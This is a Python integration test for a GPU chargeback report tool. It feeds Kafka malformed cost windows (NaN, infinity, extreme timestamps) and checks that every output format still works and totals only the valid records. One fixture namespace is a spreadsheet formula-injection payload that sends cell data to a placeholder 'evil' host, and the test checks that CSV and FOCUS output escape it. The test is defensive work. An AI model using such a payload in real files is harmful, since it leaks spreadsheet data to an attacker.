"""A forged or broken ChargebackWindow cannot break a report: every format still answers.

Windows with NaN and infinite costs, one from year -29719 and one at Avro's lowest long sit between
good windows on a real topic; each format of ``gpupipe report chargeback --period all`` succeeds, says
what it skipped, and totals exactly the good windows; a namespace that is a formula stays text in CSV
and FOCUS.
"""

from __future__ import annotations

import copy
import csv
import io
import json

import pytest
from confluent_kafka import Producer

from gpupipe.kafka import topics
from gpupipe.kafka.admin import ensure_topics
from gpupipe_schemas.codec import AvroCodec
from scripts.report_example_data import simulated_windows
from tests.integration.kafka_util import gpupipe

pytestmark = pytest.mark.integration


def _strict(text: str) -> object:
    def refuse(name: str) -> None:
        raise ValueError(f"not JSON: {name}")

    return json.loads(text, parse_constant=refuse)


def test_every_format_survives_outlier_windows(kafka: str, topic_prefix: str) -> None:
    ensure_topics(kafka, [topics.CHARGEBACK], prefix=topic_prefix)
    topic = topics.with_prefix(topic_prefix, topics.CHARGEBACK)
    good = simulated_windows(2, nodes=1, gpus_per_node=2)
    formula = copy.deepcopy(good[0])  # in bounds, billed, and must stay text in a spreadsheet
    formula.update(record_id="formula", namespace='=HYPERLINK("http://evil/?x="&A1,"click")')
    good.append(formula)
    hostile = []
    for i, change in enumerate(
        (
            {"cost_total": float("nan")},
            {"cost_allocation": float("inf"), "allocated_gpu_seconds": float("inf")},
            {"window_start_ms": -(10**15) * 1000, "window_end_ms": -(10**15) * 1000 + 3_600_000},
            {"window_start_ms": -(2**63), "window_end_ms": -(2**63) + 3_600_000},
        )
    ):
        rec = copy.deepcopy(good[0])
        rec.update(change, record_id=f"hostile-{i}", namespace=f"hostile-{i}")
        hostile.append(rec)
    enc = AvroCodec().encoder("ChargebackWindow")
    p = Producer({"bootstrap.servers": kafka})
    for rec in good[: len(good) // 2] + hostile + good[len(good) // 2 :]:
        p.produce(topic, enc.encode(rec), rec["namespace"].encode())
    assert p.flush(30) == 0

    base = ["report", "chargeback", "--bootstrap-servers", kafka, "--topic-prefix", topic_prefix]
    base += ["--by", "namespace", "--period", "all"]
    outputs = {}
    for fmt in ("table", "json", "csv", "focus", "html"):
        extra = ("--provisional",) if fmt == "focus" else ()  # the current month is not closed
        out = gpupipe(*base, "--format", fmt, *extra, timeout=120)
        assert out.returncode == 0, (fmt, out.stderr[-2000:])
        assert out.stderr.count("out of range") == 4, (fmt, out.stderr)
        assert "Traceback" not in out.stderr
        outputs[fmt] = out.stdout
    rows = _strict(outputs["json"])
    text = json.dumps(rows)
    assert "hostile" not in text
    want = round(sum(w["cost_total"] for w in good), 6)
    got = [r for r in csv.DictReader(io.StringIO(outputs["csv"]))]
    assert got and not any(r.get("namespace", "").startswith("hostile") for r in got)
    assert abs(sum(float(r["cost"]) for r in got if r.get("namespace") != "TOTAL") - want) < 0.01
    assert "nan" not in outputs["table"].lower().split()
    assert [r["namespace"] for r in got if "HYPERLINK" in r["namespace"]] == ["'" + formula["namespace"]]
    assert "'=HYPERLINK" in outputs["focus"] and ",=HYPERLINK" not in outputs["focus"]
